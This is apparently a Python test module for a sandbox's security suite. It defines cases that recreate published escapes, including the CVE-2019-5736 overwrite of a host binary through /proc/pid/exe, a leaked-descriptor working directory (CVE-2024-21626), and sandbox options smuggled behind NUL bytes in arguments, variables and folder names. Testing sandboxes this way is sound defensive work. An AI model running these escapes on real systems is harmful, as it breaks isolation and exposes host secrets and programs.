"""Attacks by the request itself, and escapes that were published for sandboxes of this kind."""

from __future__ import annotations

from dataclasses import replace

from tests.attack.case import Case
from tests.attack.ground import Ground
from tests.attack.runner import Ask
from tests.attack.victim_launcher import linked_folder
from tests.attack.victim_processes import running_program
from tests.attack.victims import loader_trace, open_folder, secret, server_environment


def _from_leaked_folder(ground: Ground, ask: Ask) -> Ask:
    return replace(ask, cwd=f"/proc/self/fd/{ground.given['leaked']}")


def _in_linked_folder(ground: Ground, ask: Ask) -> Ask:
    return replace(ask, cwd=f"{ground.inside}/.git")


def _options_as_command(ground: Ground, ask: Ask) -> Ask:
    return replace(ask, argv=("--ro-bind", str(ground.folder), "/host", *ask.argv))


def _options_in_variable(ground: Ground, ask: Ask) -> Ask:
    return replace(ask, env={"HARMLESS": f"x\0--ro-bind\0{ground.folder}\0/host"})


def _options_in_folder(ground: Ground, ask: Ask) -> Ask:
    return replace(ask, cwd=f"{ground.inside}\0--ro-bind\0{ground.folder}\0/host")


def _loader_variables(ground: Ground, ask: Ask) -> Ask:
    return replace(ask, env={"LD_DEBUG": "libs", "LD_DEBUG_OUTPUT": str(ground.given["trace"])})


_SEE_HOST = """
for path, content in each(("/host/secret.txt", "secret.txt")):
    if has_token(content): escaped(path)
"""

CASES = (
    Case(
        "environment",
        "environment",
        "find a secret of the server in the own environment",
        'if S["token"] in str(os.environ): escaped("found it")',
        (server_environment,),
        everyday=True,
    ),
    Case(
        "environment-by-shell",
        "environment",
        "print the environment",
        'env | grep -q -- "$3" && echo ESCAPED; echo HELD',
        (server_environment,),
        language="sh",
    ),
    Case(
        "environment-of-the-loader",
        "environment",
        "have the program that sets the sandbox up listen to variables meant for the command",
        "held()",
        (loader_trace,),
        shape=_loader_variables,
    ),
    Case(
        "overwrite-running-program",
        "escapes",
        "overwrite a program of the host through the link to what a process runs",
        """
import time
pids = [S["tool"], 1, os.getppid()]
kept = []
for pid in pids:
    try: kept.append((pid, os.open(f"/proc/{pid}/exe", os.O_RDONLY)))
    except OSError: continue
for pid, fd in kept:
    try: os.kill(pid, 9) if pid == S["tool"] else None
    except OSError: continue
    for _ in range(50):
        try: over = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_TRUNC)
        except OSError as error:
            if error.errno != 26: break
            time.sleep(0.01)
            continue
        os.write(over, b"harmed")
        escaped(f"overwrote what {pid} ran")
""",
        (running_program,),
        known_as="CVE-2019-5736",
        everyday=True,
    ),
    Case(
        "start-in-leaked-folder",
        "escapes",
        "be started in a folder of the host that a forgotten descriptor leads to",
        """
if has_token(read("secret.txt")): escaped("stands in a folder of the host")
""",
        (secret, open_folder),
        known_as="CVE-2024-21626",
        shape=_from_leaked_folder,
        everyday=True,
    ),
    Case(
        "start-in-linked-folder",
        "escapes",
        "be started in a folder of the workspace that is a link out of it",
        'if has_token(read("secret.txt")): escaped("stands in a folder of the host")',
        (secret, linked_folder),
        known_as="CVE-2021-30465, CVE-2024-42472",
        shape=_in_linked_folder,
    ),
    Case(
        "options-in-command",
        "escapes",
        "have the command's name taken for an option of the sandbox",
        _SEE_HOST,
        (secret,),
        known_as="CVE-2024-32462, CVE-2019-13139",
        shape=_options_as_command,
        control="careless",
        everyday=True,
    ),
    Case(
        "options-in-variable",
        "escapes",
        "hide options of the sandbox behind a zero byte in a variable",
        _SEE_HOST,
        (secret,),
        known_as="like CVE-2024-32462",
        shape=_options_in_variable,
        control="careless",
        everyday=True,
    ),
    Case(
        "options-in-folder",
        "escapes",
        "hide options of the sandbox behind a zero byte in the folder to start in",
        _SEE_HOST,
        (secret,),
        known_as="like CVE-2024-32462",
        shape=_options_in_folder,
        control="careless",
    ),
)
